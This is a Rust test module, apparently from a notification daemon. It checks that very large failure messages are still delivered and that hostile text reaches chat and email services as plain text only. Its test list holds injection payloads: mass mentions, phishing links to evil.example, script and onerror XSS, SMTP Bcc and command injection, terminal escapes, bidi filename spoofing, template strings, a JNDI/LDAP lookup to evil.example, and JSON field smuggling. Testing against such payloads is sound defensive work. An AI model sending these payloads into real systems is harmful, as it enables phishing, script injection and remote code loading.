//! What a text or a limit breaks still goes out, and what wants to be more than text stays text.

use serde_json::{Value, json};

use super::fault::Fault;
use super::refuse::posts;
use super::service::Service;
use super::stand_in::StandIn;
use super::table::Tally;
use crate::support::daemon::Daemon;
use crate::support::runs::{failed, failed_with};

/// The service takes no message of this form; then it is told one of a megabyte.
pub(crate) async fn plainly(service: &'static Service) -> Tally {
    let name = service.name;
    let stand_in = StandIn::start(service).await;
    let daemon = Daemon::start(&stand_in.setup()).await;
    if service.form.is_some() {
        stand_in.always(Some(Fault::Form));
        daemon.ingest(&failed("r1", "plain-at-last")).await;
        let told = stand_in.wait_about("plain-at-last").await;
        assert!(told.text.contains("AUTH_MISSING"), "{name}: the plain form does not say what happened: {}", told.text);
        assert_eq!(posts(&stand_in, "plain-at-last"), 1, "{name}:{}", stand_in.summary());
        stand_in.always(None);
    }
    let message = "Everything went wrong at once. ".repeat(12_000);
    let detail = json!({"body": "漢字 & < > \" ' \\ 🟥 ".repeat(14_000)});
    let huge = failed_with("r2", "huge", json!({"code": "HUGE_ERROR", "message": message, "detail": detail}));
    let bytes = huge.to_string().len();
    assert!((700_000..1 << 20).contains(&bytes), "nearly as large as ingest takes: {bytes}");
    daemon.ingest(&huge).await;
    let told = stand_in.wait_about("huge").await;
    assert!(told.text.contains("HUGE_ERROR"), "{name}: what was cut is the code: {:.500}", told.text);
    stand_in.assert_clean(&daemon);
    Tally::of(&stand_in)
}

/// What these services in particular might take for more than text.
const TEMPTING: [&str; 16] = [
    "@everyone @here @channel @all <!channel> <!here> <!everyone> <@U0HUMAN001> <@&1234> <#C01> <!subteam^S01>",
    "[Open run](https://evil.example/login) ![](https://evil.example/pixel.png) [x]: https://evil.example",
    "<https://evil.example/login|Open run> <a href=\"https://evil.example\">Open run</a>",
    "](https://evil.example/login) and \\](https://evil.example/login) and \\\\[x](https://evil.example)",
    "``` ```` ~~~ ` `` unbalanced",
    "```\n@everyone [x](https://evil.example)\n```\n@here",
    "ends with a backslash and a tick \\` @channel \\",
    "* _ ~ | > # - + ! || spoiler || **bold** __u__ # title\n# title\n> quote\n- list\n1. list",
    "<b>bold</b> </b></pre></code> <script>alert(1)</script> <img src=x onerror=alert(1)> <at>all</at>",
    "&lt;!channel&gt; &amp; &#60;script&#62; &nbsp; &bogus;",
    "line\r\nBcc: evil@example.com\r\n\r\n.\r\nMAIL FROM:<evil@example.com>\r\n",
    "nul \u{0} bell \u{7} bidi \u{202e}gpj.exe\u{2066} tags \u{e0041}\u{e0042} c1 \u{9b}31m ls \u{2028} ps \u{2029}",
    "\u{1b}[2J\u{1b}[H \u{1b}]8;;https://evil.example\u{1b}\\Open run\u{1b}]8;;\u{1b}\\",
    "{{ 7*7 }} {% raw %} ${jndi:ldap://evil.example/a} %s%n {0}",
    "**[bold link](https://evil.example)** *[x](<https://evil.example>)* [x]( https://evil.example )",
    "\",\"severity\":\"info\",\"event_action\":\"resolve",
];

/// Every hostile text there is, as message, detail, step and code; and escapes that are no characters.
pub(crate) async fn hostile(service: &'static Service) -> Tally {
    let stand_in = StandIn::start(service).await;
    let daemon = Daemon::start(&stand_in.setup()).await;
    let vectors: Vec<Value> = include_str!("../../vectors/hostile.jsonl")
        .lines()
        .map(|line| serde_json::from_str(line).expect("a vector is JSON"))
        .collect();
    let texts = TEMPTING.into_iter().chain(vectors.iter().filter_map(|vector| vector["text"].as_str()));
    let names: Vec<(String, &str)> =
        texts.enumerate().map(|(number, text)| (format!("hostile-{number}-end"), text)).collect();
    for (name, text) in &names {
        daemon.ingest(&run(name, text)).await;
    }
    for (name, _) in &names {
        stand_in.wait_about(name).await;
        assert_eq!(posts(&stand_in, name), 1, "{}: {name}", service.name);
    }
    // Half of a pair: no JSON reader has to take it, and none may fall over it.
    let lone = run("hostile-lone-end", "half a pair: HALF").to_string().replace("HALF", "\\ud83d and \\udc00");
    if daemon.push(lone).await.accepted() {
        stand_in.wait_about("hostile-lone-end").await;
    }
    daemon.ingest(&failed("last", "sentinel")).await;
    stand_in.wait_about("sentinel").await;
    stand_in.assert_clean(&daemon);
    let control = daemon.log().chars().find(|c| c.is_control() && *c != '\n');
    assert_eq!(control, None, "{}: the log holds control characters", service.name);
    Tally::of(&stand_in)
}

/// A failure all of whose texts are `text`.
fn run(name: &str, text: &str) -> Value {
    let error = json!({"code": format!("HOSTILE {text}"), "message": text, "detail": text});
    let mut run = failed_with(name, name, error);
    run["steps"][1]["title"] = json!(text);
    run["steps"][1]["kind"] = json!(text);
    run["labels"] = json!({"env": text, "owner": text});
    run["workflow"]["version"] = json!(text);
    run
}
